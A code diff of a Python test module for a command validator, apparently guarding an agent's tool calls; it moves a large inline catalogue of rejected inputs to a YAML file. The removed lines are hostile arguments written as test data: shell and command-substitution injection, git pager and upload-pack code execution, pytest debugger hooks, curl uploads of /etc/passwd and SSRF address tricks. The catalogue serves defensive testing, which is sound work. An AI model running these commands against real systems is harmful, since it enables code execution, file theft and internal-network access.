@@ -2,7 +2,10 @@
 
 from collections.abc import Mapping
 from dataclasses import dataclass, field
+from pathlib import Path
 from typing import Any
+
+import yaml
 
 
 @dataclass(frozen=True)
@@ -14,310 +17,36 @@ class Attack:
     secrets: Mapping[str, str] = field(default_factory=dict)
 
 
-def line(title: str, command: str, reason: str) -> Attack:
-    """A command line in one string."""
-    return Attack(title, command, (), reason)
-
-
-def args(title: str, command: str, *arguments: str, reason: str) -> Attack:
-    return Attack(title, command, arguments, reason)
-
-
-SHELL = [
-    line("semicolon", "ruff check .; touch {canary}", "SHELL_SYNTAX"),
-    line("semicolon without space", "ruff check;touch x", "SHELL_SYNTAX"),
-    line("and", "ruff check && touch x", "SHELL_SYNTAX"),
-    line("or", "ruff check || touch x", "SHELL_SYNTAX"),
-    line("pipe", "git log | sh", "SHELL_SYNTAX"),
-    line("background", "git status & touch x", "SHELL_SYNTAX"),
-    line("output redirect", "git log > x", "SHELL_SYNTAX"),
-    line("appending redirect", "git log >> x", "SHELL_SYNTAX"),
-    line("input redirect", "pytest < x", "SHELL_SYNTAX"),
-    line("here string", "pytest <<< x", "SHELL_SYNTAX"),
-    line("backticks", "git log `touch x`", "SHELL_SYNTAX"),
-    line("backticks in double quotes", 'git commit -m "`touch x`"', "SHELL_SYNTAX"),
-    line("command substitution", "git log $(touch x)", "SHELL_SYNTAX"),
-    line("command substitution in double quotes", 'git commit -m "$(touch x)"', "SHELL_SYNTAX"),
-    line("process substitution", "git diff <(touch x)", "SHELL_SYNTAX"),
-    line("variable", "git log $HOME", "SHELL_SYNTAX"),
-    line("variable in braces", "git log ${IFS}x", "SHELL_SYNTAX"),
-    line("subshell", "(touch x)", "SHELL_SYNTAX"),
-    line("glob", "git add *", "SHELL_SYNTAX"),
-    line("question mark", "git add ?", "SHELL_SYNTAX"),
-    line("character class", "git add [a-z]", "SHELL_SYNTAX"),
-    line("home", "git add ~/x", "SHELL_SYNTAX"),
-    line("history", "git log !!", "SHELL_SYNTAX"),
-    line("comment", "git log # x", "SHELL_SYNTAX"),
-    line("newline", "ruff check\ntouch x", "CONTROL_CHARACTER"),
-    line("carriage return", "ruff check\rtouch x", "CONTROL_CHARACTER"),
-    line("NUL", "ruff check\0touch x", "CONTROL_CHARACTER"),
-    line("escape sequence", "git log \x1b[2J", "CONTROL_CHARACTER"),
-    line("delete character", "git log \x7f", "CONTROL_CHARACTER"),
-    line("C1 control character", "git log \x9b", "CONTROL_CHARACTER"),
-    line("line separator", "git log \u2028", "CONTROL_CHARACTER"),
-    line("right-to-left override", "git log \u202egpj", "CONTROL_CHARACTER"),
-    line("isolate", "git log \u2066x\u2069", "CONTROL_CHARACTER"),
-    line("quote that does not end", "git commit -m 'x", "SHELL_SYNTAX"),
-    line("backslash at the end", "git log \\", "SHELL_SYNTAX"),
-    line("empty", "   ", "COMMAND_MISSING"),
-    args("newline in an argument", "git", "commit", "-m", "x\ntouch x", reason="CONTROL_CHARACTER"),
-    args("NUL in an argument", "ruff", "check", "a\0b", reason="CONTROL_CHARACTER"),
-    args("surrogate", "ruff", "check", "a\ud800", reason="CONTROL_CHARACTER"),
-    args("semicolon in a path", "ruff", "check", "a;touch x", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("backticks in a path", "ruff", "check", "`touch x`", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("substitution in a path", "ruff", "format", "$(touch x)", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-]
-
-COMMANDS = [
-    line("shell", "sh -c 'touch x'", "COMMAND_NOT_ALLOWED"),
-    line("bash", "bash -c 'touch x'", "COMMAND_NOT_ALLOWED"),
-    line("python", "python -c 'import os'", "COMMAND_NOT_ALLOWED"),
-    line("env before a command", "env ruff check", "COMMAND_NOT_ALLOWED"),
-    line("sudo", "sudo ruff check", "COMMAND_NOT_ALLOWED"),
-    line("xargs", "xargs git", "COMMAND_NOT_ALLOWED"),
-    line("variable before a command", "LD_PRELOAD=./x.so ruff check", "COMMAND_NOT_ALLOWED"),
-    line("absolute path", "/usr/bin/git status", "COMMAND_NOT_ALLOWED"),
-    line("relative path", "./git status", "COMMAND_NOT_ALLOWED"),
-    line("path upwards", "../bin/ruff check", "COMMAND_NOT_ALLOWED"),
-    line("capitals", "GIT status", "COMMAND_NOT_ALLOWED"),
-    line("look-alike letter", "gіt status", "COMMAND_NOT_ALLOWED"),
-    line("placeholder as a command", "{task_id} status", "COMMAND_NOT_ALLOWED"),
-    line("script of the working directory", "generate.py", "COMMAND_NOT_ALLOWED"),
-    line("wget", "wget http://x/", "COMMAND_NOT_ALLOWED"),
-    line("git-upload-pack by its own name", "git-upload-pack .", "COMMAND_NOT_ALLOWED"),
-]
-
-GIT = [
-    args("configuration by -c", "git", "-c", "core.pager=touch x", "log", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("configuration by -c=", "git", "-ccore.pager=x", "log", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("--config-env", "git", "--config-env=core.pager=HOME", "log", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("--exec-path", "git", "--exec-path=.", "status", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("--git-dir", "git", "--git-dir=evil", "status", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("--work-tree", "git", "--work-tree=/", "status", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("-C", "git", "-C", "/", "status", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("--paginate", "git", "-p", "log", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("placeholder as a sub-command", "git", "{task_id}", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("clone over ext", "git", "clone", "ext::sh -c touch% x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("fetch with a program", "git", "fetch", "--upload-pack=touch x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("ls-remote with a program", "git", "ls-remote", "--upload-pack", "x", ".", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("push", "git", "push", "--receive-pack=touch x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("pull", "git", "pull", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("archive with a program", "git", "archive", "--remote=x", "--exec=y", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("submodule", "git", "submodule", "foreach", "touch x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("bisect run", "git", "bisect", "run", "touch", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("rebase exec", "git", "rebase", "--exec", "touch x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("filter-branch", "git", "filter-branch", "--tree-filter", "x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("config", "git", "config", "core.pager", "x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("alias", "git", "evil", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("difftool", "git", "difftool", "--extcmd=x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("mergetool", "git", "mergetool", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("grep with a pager", "git", "grep", "-Otouch", "x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("init with a template", "git", "init", "--template=x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("hook run", "git", "hook", "run", "pre-commit", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("apply outside", "git", "apply", "--unsafe-paths", "x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("daemon", "git", "daemon", "--export-all", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("send-email", "git", "send-email", "--sendmail-cmd=x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("instaweb", "git", "instaweb", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("no sub-command", "git", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("diff by a program", "git", "diff", "--ext-diff", reason="FLAG_NOT_PERMITTED"),
-    args("diff through textconv", "git", "diff", "--textconv", reason="FLAG_NOT_PERMITTED"),
-    args("diff into a file", "git", "diff", "--output=x", reason="FLAG_NOT_PERMITTED"),
-    args("diff outside", "git", "diff", "--no-index", "/etc/passwd", "a", reason="FLAG_NOT_PERMITTED"),
-    args("diff of order file", "git", "diff", "-O", "/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("diff with submodules", "git", "diff", "--submodule=diff", reason="FLAG_NOT_PERMITTED"),
-    args("log into a file", "git", "log", "--output=x", reason="FLAG_NOT_PERMITTED"),
-    args("log with signatures", "git", "log", "--show-signature", reason="FLAG_NOT_PERMITTED"),
-    args("log with any format", "git", "log", "--format=%x00", reason="ARGUMENT_INVALID"),
-    args("shortened flag", "git", "log", "--outpu=x", reason="FLAG_NOT_PERMITTED"),
-    args("commit with hooks", "git", "commit", "-m", "x", "--verify", reason="FLAG_NOT_PERMITTED"),
-    args("commit with an editor", "git", "commit", "-m", "x", "-e", reason="FLAG_NOT_PERMITTED"),
-    args("commit signed", "git", "commit", "-m", "x", "-S", reason="FLAG_NOT_PERMITTED"),
-    args("commit message of a file", "git", "commit", "-F", "/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("commit template", "git", "commit", "-t", "/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("commit without a message", "git", "commit", "-a", reason="ARGUMENT_INVALID"),
-    args("commit with trailers", "git", "commit", "-m", "x", "--trailer", "a=b", reason="FLAG_NOT_PERMITTED"),
-    args("commit of another author", "git", "commit", "-m", "x", "--author", "a <b> <c>", reason="ARGUMENT_INVALID"),
-    args("add of paths in a file", "git", "add", "--pathspec-from-file=/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("add by patches", "git", "add", "-p", reason="FLAG_NOT_PERMITTED"),
-    args("add by an editor", "git", "add", "-e", reason="FLAG_NOT_PERMITTED"),
-    args("add of the repository's own files", "git", "add", ".git/config", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("add with pathspec magic", "git", "add", ":(top)x", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("status of outside", "git", "status", "../..", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("revision that is a flag", "git", "show", "--output=x", reason="FLAG_NOT_PERMITTED"),
-    args("revision with a search", "git", "show", ":/x", reason="ARGUMENT_INVALID"),
-    args("flag as a value", "git", "log", "--author", "--output=x", reason="ARGUMENT_INVALID"),
-    args("rev-parse of arguments", "git", "rev-parse", "--parseopt", reason="FLAG_NOT_PERMITTED"),
-    args("ls-files excluding by a file", "git", "ls-files", "--exclude-from=/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-]
-
-PYTEST = [
-    args("plugin", "pytest", "-p", "evil", reason="FLAG_NOT_PERMITTED"),
-    args("plugin without space", "pytest", "-pevil", reason="FLAG_NOT_PERMITTED"),
-    args("temporary directory", "pytest", "--basetemp=/", reason="FLAG_NOT_PERMITTED"),
-    args("temporary directory, shortened", "pytest", "--baset=/", reason="FLAG_NOT_PERMITTED"),
-    args("conftest elsewhere", "pytest", "--confcutdir=/", reason="FLAG_NOT_PERMITTED"),
-    args("root directory", "pytest", "--rootdir=/", reason="FLAG_NOT_PERMITTED"),
-    args("configuration file", "pytest", "-c", "/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("override", "pytest", "-o", "cache_dir=/", reason="FLAG_NOT_PERMITTED"),
-    args("report", "pytest", "--junitxml=/x", reason="FLAG_NOT_PERMITTED"),
-    args("log file", "pytest", "--log-file=/x", reason="FLAG_NOT_PERMITTED"),
-    args("debug file", "pytest", "--debug=x", reason="FLAG_NOT_PERMITTED"),
-    args("paste to a site", "pytest", "--pastebin=all", reason="FLAG_NOT_PERMITTED"),
-    args("debugger", "pytest", "--pdbcls=os:system", reason="FLAG_NOT_PERMITTED"),
-    args("package arguments", "pytest", "--pyargs", "os", reason="FLAG_NOT_PERMITTED"),
-    args("import mode", "pytest", "--import-mode=importlib", reason="FLAG_NOT_PERMITTED"),
-    args("coverage configuration", "pytest", "--cov-config=/x", reason="FLAG_NOT_PERMITTED"),
-    args("cache of another place", "pytest", "--cache-show", reason="FLAG_NOT_PERMITTED"),
-    args("argument file", "pytest", "@/etc/passwd", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("test outside", "pytest", "/etc/passwd", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("test upwards", "pytest", "../x/test_a.py::test_b", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("test's id with code", "pytest", "a.py::x;y", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("selection with code", "pytest", "-k", "__import__('os').system('x')", reason="ARGUMENT_INVALID"),
-    args("traceback style", "pytest", "--tb=evil", reason="ARGUMENT_INVALID"),
-]
-
-RUFF = [
-    args("configuration file", "ruff", "check", "--config", "/etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("configuration in place", "ruff", "check", "--config=cache-dir='/'", reason="FLAG_NOT_PERMITTED"),
-    args("configuration before", "ruff", "--config", "x", "check", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("output file", "ruff", "check", "--output-file", "/x", reason="FLAG_NOT_PERMITTED"),
-    args("output file, short", "ruff", "check", "-o", "/x", reason="FLAG_NOT_PERMITTED"),
-    args("cache directory", "ruff", "check", "--cache-dir=/", reason="FLAG_NOT_PERMITTED"),
-    args("watching", "ruff", "check", "--watch", reason="FLAG_NOT_PERMITTED"),
-    args("standard input's name", "ruff", "format", "--stdin-filename", "/x", reason="FLAG_NOT_PERMITTED"),
-    args("argument file", "ruff", "check", "@/etc/passwd", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("server", "ruff", "server", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("clean", "ruff", "clean", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("config dump", "ruff", "config", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("analyze with interpreter", "ruff", "analyze", "graph", "--python=/x", reason="SUBCOMMAND_NOT_PERMITTED"),
-    args("path upwards", "ruff", "format", "../x.py", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("path upwards in the middle", "ruff", "format", "a/../../x.py", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("absolute path", "ruff", "format", "/etc/passwd", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("the repository's own files", "ruff", "format", "x/.GIT/hooks", reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-    args("output format", "ruff", "check", "--output-format=evil", reason="ARGUMENT_INVALID"),
-    args("rule codes", "ruff", "check", "--select", "E;touch", reason="ARGUMENT_INVALID"),
-    args("value for a flag without", "ruff", "check", "--fix=x", reason="ARGUMENT_INVALID"),
-    args("missing value", "ruff", "check", "--select", reason="ARGUMENT_INVALID"),
-    args("path behind the separator", "ruff", "check", "--", "--config=x", reason="ARGUMENT_INVALID"),
-    args("too many paths", "ruff", "check", *["a.py"] * 60, reason="ARGUMENT_INVALID"),
-    args("path that is too long", "ruff", "check", "a" * 2000, reason="PATH_OUTSIDE_WORK_DIRECTORY"),
-]
-
-URL = "http://example.com/"
-CURL = [
-    args("output file", "curl", "-o", "x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("output file without space", "curl", "-ox", URL, reason="FLAG_NOT_PERMITTED"),
-    args("remote name", "curl", "-O", URL, reason="FLAG_NOT_PERMITTED"),
-    args("configuration file", "curl", "-K", "x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("upload", "curl", "-T", "/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("form with a file", "curl", "-F", "a=@/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("body of a file", "curl", "-d", "@/etc/passwd", URL, reason="ARGUMENT_INVALID"),
-    args("encoded body of a file", "curl", "--data-urlencode", "a@/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("binary body", "curl", "--data-binary", "@/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("header file", "curl", "-H", "@/etc/passwd", URL, reason="ARGUMENT_INVALID"),
-    args("proxy", "curl", "-x", "http://127.0.0.1", URL, reason="FLAG_NOT_PERMITTED"),
-    args("proxy, long", "curl", "--proxy=http://127.0.0.1", URL, reason="FLAG_NOT_PERMITTED"),
-    args("socks", "curl", "--socks5", "127.0.0.1", URL, reason="FLAG_NOT_PERMITTED"),
-    args("unix socket", "curl", "--unix-socket", "/var/run/docker.sock", URL, reason="FLAG_NOT_PERMITTED"),
-    args("abstract socket", "curl", "--abstract-unix-socket", "x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("resolving", "curl", "--resolve", "a:80:127.0.0.1", URL, reason="FLAG_NOT_PERMITTED"),
-    args("connect to", "curl", "--connect-to", "::127.0.0.1:", URL, reason="FLAG_NOT_PERMITTED"),
-    args("name server", "curl", "--dns-servers", "127.0.0.1", URL, reason="FLAG_NOT_PERMITTED"),
-    args("DNS over HTTPS", "curl", "--doh-url", "https://x/", URL, reason="FLAG_NOT_PERMITTED"),
-    args("interface", "curl", "--interface", "lo", URL, reason="FLAG_NOT_PERMITTED"),
-    args("protocols", "curl", "--proto", "=file", URL, reason="FLAG_NOT_PERMITTED"),
-    args("default protocol", "curl", "--proto-default", "file", URL, reason="FLAG_NOT_PERMITTED"),
-    args("certificates ignored", "curl", "-k", URL, reason="FLAG_NOT_PERMITTED"),
-    args("authority of a file", "curl", "--cacert", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("engine", "curl", "--engine", "./x.so", URL, reason="FLAG_NOT_PERMITTED"),
-    args("netrc", "curl", "-n", URL, reason="FLAG_NOT_PERMITTED"),
-    args("cookie file", "curl", "-b", "/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("cookie jar", "curl", "-c", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("header dump", "curl", "-D", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("trace", "curl", "--trace", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("source", "curl", "--libcurl", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("write out", "curl", "-w", "@/etc/passwd", URL, reason="FLAG_NOT_PERMITTED"),
-    args("standard error", "curl", "--stderr", "/x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("next request", "curl", URL, "--next", "file:///etc/passwd", reason="FLAG_NOT_PERMITTED"),
-    args("second address", "curl", URL, "file:///etc/passwd", reason="ARGUMENT_INVALID"),
-    args("address by a flag", "curl", "--url", "file:///x", reason="FLAG_NOT_PERMITTED"),
-    args("user", "curl", "-u", "a:b", URL, reason="FLAG_NOT_PERMITTED"),
-    args("quote", "curl", "-Q", "DELE x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("telnet option", "curl", "-t", "x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("method with a line", "curl", "-X", "GET / HTTP/1.1", URL, reason="ARGUMENT_INVALID"),
-    args("method of the event", "curl", "-X", "{task_id}", URL, reason="REQUEST_INVALID"),
-    args("header with a line", "curl", "-H", "A: b\r\nHost: x", URL, reason="CONTROL_CHARACTER"),
-    args("host header", "curl", "-H", "Host: 127.0.0.1", URL, reason="REQUEST_INVALID"),
-    args("length header", "curl", "-H", "Content-Length: 5", URL, reason="REQUEST_INVALID"),
-    args("chunked", "curl", "-H", "Transfer-Encoding: chunked", URL, reason="REQUEST_INVALID"),
-    args("proxy header", "curl", "-H", "Proxy-Authorization: x", URL, reason="REQUEST_INVALID"),
-    args("header's name of the event", "curl", "-H", "{task_id}: x", URL, reason="REQUEST_INVALID"),
-    args("two bodies", "curl", "-d", "a", "-d", "b", URL, reason="REQUEST_INVALID"),
-    args("body that is not JSON", "curl", "--json", '{"a": {task_id}}', URL, reason="REQUEST_INVALID"),
-    args("body that is nested deeply", "curl", "--json", "[" * 400 + "]" * 400, URL, reason="REQUEST_INVALID"),
-    args("body that is nested too deeply to read", "curl", "--json", "[" * 8000, URL, reason="REQUEST_INVALID"),
-    args("time of the event", "curl", "-m", "{attempt}", URL, reason="REQUEST_INVALID"),
-    args("file", "curl", "file:///etc/passwd", reason="URL_INVALID"),
-    args("file in capitals", "curl", "FILE:///etc/passwd", reason="URL_INVALID"),
-    args("gopher", "curl", "gopher://127.0.0.1/_x", reason="URL_INVALID"),
-    args("dict", "curl", "dict://127.0.0.1:11211/stat", reason="URL_INVALID"),
-    args("ftp", "curl", "ftp://x/", reason="URL_INVALID"),
-    args("scp", "curl", "scp://x/", reason="URL_INVALID"),
-    args("ldap", "curl", "ldap://x/", reason="URL_INVALID"),
-    args("telnet", "curl", "telnet://x/", reason="URL_INVALID"),
-    args("no scheme", "curl", "127.0.0.1", reason="URL_INVALID"),
-    args("user in the address", "curl", "http://example.com@127.0.0.1/", reason="URL_INVALID"),
-    args("user and password", "curl", "http://a:b@127.0.0.1/", reason="URL_INVALID"),
-    args("backslash", "curl", "http://example.com\\@127.0.0.1/", reason="URL_INVALID"),
-    args("fragment", "curl", "http://example.com#@127.0.0.1/", reason="URL_INVALID"),
-    args("encoded host", "curl", "http://%31%32%37.0.0.1/", reason="URL_INVALID"),
-    args("full-width digits", "curl", "http://１２７.0.0.1/", reason="ARGUMENT_INVALID"),
-    args("enclosed letters", "curl", "http://ⓛocalhost/", reason="ARGUMENT_INVALID"),
-    args("globbing", "curl", "http://{example.com,127.0.0.1}/", reason="URL_INVALID"),
-    args("globbed range", "curl", "http://127.0.0.[1-9]/", reason="URL_INVALID"),
-    args("zone", "curl", "http://[fe80::1%25eth0]/", reason="URL_INVALID"),
-    args("port that is none", "curl", "http://example.com:99999/", reason="URL_INVALID"),
-    args("port of the event", "curl", "http://example.com:{attempt}/", reason="URL_INVALID"),
-    args("host of the event", "curl", "http://{task_id}/", reason="URL_INVALID"),
-    args("host's end of the event", "curl", "http://example.com{task_id}/", reason="URL_INVALID"),
-    args("whole address of the event", "curl", "{result.url}", reason="URL_INVALID"),
-    args("decimal address", "curl", "http://2130706433/", reason="ADDRESS_INVALID"),
-    args("hexadecimal address", "curl", "http://0x7f000001/", reason="ADDRESS_INVALID"),
-    args("hexadecimal parts", "curl", "http://0x7f.0.0.0x1/", reason="ADDRESS_INVALID"),
-    args("octal address", "curl", "http://0177.0.0.1/", reason="ADDRESS_INVALID"),
-    args("short address", "curl", "http://127.1/", reason="ADDRESS_INVALID"),
-    args("zero", "curl", "http://0/", reason="ADDRESS_INVALID"),
-    args("address with a dot at its end", "curl", "http://0x7f.1./", reason="ADDRESS_INVALID"),
-    args("no address", "curl", "-sS", reason="URL_INVALID"),
-    args("secret in the address", "curl", "http://example.com/{secret:key}", reason="SECRET_MISPLACED"),
-    args("abbreviated flag", "curl", "--outpu", "x", URL, reason="FLAG_NOT_PERMITTED"),
-    args("joined short flags", "curl", "-sko", "x", URL, reason="FLAG_NOT_PERMITTED"),
-]
-
-PLACEHOLDERS_AND_SECRETS = [
-    args("unknown placeholder", "ruff", "check", "{password}", reason="PLACEHOLDER_UNKNOWN"),
-    args("attribute of a placeholder", "ruff", "check", "{file.__class__}", reason="PLACEHOLDER_UNKNOWN"),
-    args("the working directory itself", "ruff", "check", "{work_dir}", reason="PLACEHOLDER_UNKNOWN"),
-    args("secret in an argument", "git", "commit", "-m", "{secret:key}", reason="SECRET_MISPLACED"),
-    Attack("preloading", "pytest", (), "ENVIRONMENT_NAME_RESERVED", {"LD_PRELOAD": "key"}),
-    Attack("loader's path", "pytest", (), "ENVIRONMENT_NAME_RESERVED", {"LD_LIBRARY_URL": "key"}),
-    Attack("the path", "pytest", (), "ENVIRONMENT_NAME_RESERVED", {"PATH": "key"}),
-    Attack("python's start", "pytest", (), "ENVIRONMENT_NAME_RESERVED", {"PYTHONSTARTUP": "key"}),
-    Attack("pytest's options", "pytest", (), "ENVIRONMENT_NAME_RESERVED", {"PYTEST_ADDOPTS": "key"}),
-    Attack("git's programs", "git", ("status",), "ENVIRONMENT_NAME_RESERVED", {"GIT_SSH_COMMAND": "key"}),
-    Attack("git's configuration", "git", ("status",), "ENVIRONMENT_NAME_RESERVED", {"GIT_CONFIG_KEY": "key"}),
-    Attack("curl's environment", "curl", (URL,), "SECRET_MISPLACED", {"API_TOKEN": "key"}),
-]
-
-AT_REGISTRATION: dict[str, list[Attack]] = {
-    "shell": SHELL,
-    "command": COMMANDS,
-    "git": GIT,
-    "pytest": PYTEST,
-    "ruff": RUFF,
-    "curl": CURL,
-    "placeholder": PLACEHOLDERS_AND_SECRETS,
+LONG = {
+    "ruff": [
+        Attack("too many paths", "ruff", ("check", *["a.py"] * 60), "ARGUMENT_INVALID"),
+        Attack("path that is too long", "ruff", ("check", "a" * 2000), "PATH_OUTSIDE_WORK_DIRECTORY"),
+    ],
+    "curl": [
+        Attack(f"body that is nested {depth} deep", "curl", ("--json", body, "http://example.com/"), "REQUEST_INVALID")
+        for depth, body in ((400, "[" * 400 + "]" * 400), (8000, "[" * 8000))
+    ],
 }
+"""Those that nobody wants to read in full."""
+
+
+def read_attacks(source: Path) -> dict[str, list[Attack]]:
+    groups: dict[str, dict[str, dict[str, Any]]] = yaml.safe_load(source.read_text(encoding="utf-8"))
+    return {
+        group: [_attack(title, reason, asked) for reason, titles in reasons.items() for title, asked in titles.items()]
+        + LONG.get(group, [])
+        for group, reasons in groups.items()
+    }
+
+
+def _attack(title: str, reason: str, asked: Any) -> Attack:
+    secrets = asked["secrets"] if isinstance(asked, dict) else {}
+    words = asked["command"] if isinstance(asked, dict) else asked
+    command, *arguments = [words] if isinstance(words, str) else words
+    return Attack(title, command, tuple(arguments), reason, secrets)
+
+
+AT_REGISTRATION = read_attacks(Path(__file__).with_suffix(".yaml"))
 
 
 @dataclass(frozen=True)
